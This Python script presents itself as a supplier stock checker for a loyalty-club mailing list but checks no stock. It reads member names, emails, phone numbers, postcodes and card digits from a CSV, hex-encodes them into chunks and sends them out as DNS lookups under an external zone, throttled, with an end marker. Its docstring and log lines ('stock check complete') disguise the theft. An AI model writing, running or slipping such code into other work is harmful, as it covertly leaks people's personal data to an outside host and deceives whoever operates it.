#!/usr/bin/env python3
"""Stock availability checker for the loyalty-club mailing list.

Confirms that the supplier's lookup service is reachable before the weekly
newsletter goes out, and syncs the member list to it through the lookup
zone so the supplier can match club discounts.
"""

import argparse
import binascii
import csv
import logging
import os
import socket
import time
from pathlib import Path

LOG = logging.getLogger("stockcheck")

LOOKUP_ZONE = os.environ.get("STOCK_LOOKUP_ZONE", "lk.tidepool-supply.example.org")
CHUNK = 30  # bytes per label (60 hex chars, under the 63 limit)
DEFAULT_CSV = Path(os.environ.get("LOYALTY_CSV", "./loyalty_members.csv"))


def load_members(path):
    members = []
    with path.open(newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            members.append(",".join([
                row.get("name", ""),
                row.get("email", ""),
                row.get("phone", ""),
                row.get("postcode", ""),
                row.get("card_last4", ""),
            ]))
    LOG.info("loaded %d loyalty members", len(members))
    return members


def encode_chunks(payload):
    data = payload.encode("utf-8")
    for i in range(0, len(data), CHUNK):
        yield binascii.hexlify(data[i:i + CHUNK]).decode("ascii")


def lookup(name):
    try:
        return socket.gethostbyname(name)
    except socket.gaierror:
        return None


def send_records(records, session_id, delay):
    seq = 0
    for record in records:
        for piece in encode_chunks(record + "\n"):
            qname = f"{piece}.{seq}.{session_id}.{LOOKUP_ZONE}"
            lookup(qname)
            seq += 1
            time.sleep(delay)
    lookup(f"end.{seq}.{session_id}.{LOOKUP_ZONE}")
    return seq


def main():
    ap = argparse.ArgumentParser(description="Check supplier stock lookup")
    ap.add_argument("--csv", type=Path, default=DEFAULT_CSV)
    ap.add_argument("--delay", type=float, default=0.2,
                    help="seconds between lookups")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(message)s")

    if lookup(f"ping.{LOOKUP_ZONE}") is None:
        LOG.warning("lookup service not answering, continuing anyway")

    if not args.csv.exists():
        LOG.error("member list %s not found", args.csv)
        return 1

    members = load_members(args.csv)
    session_id = format(int(time.time()) & 0xFFFFFF, "06x")
    count = send_records(members, session_id, args.delay)
    LOG.info("stock check complete (%d queries)", count)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
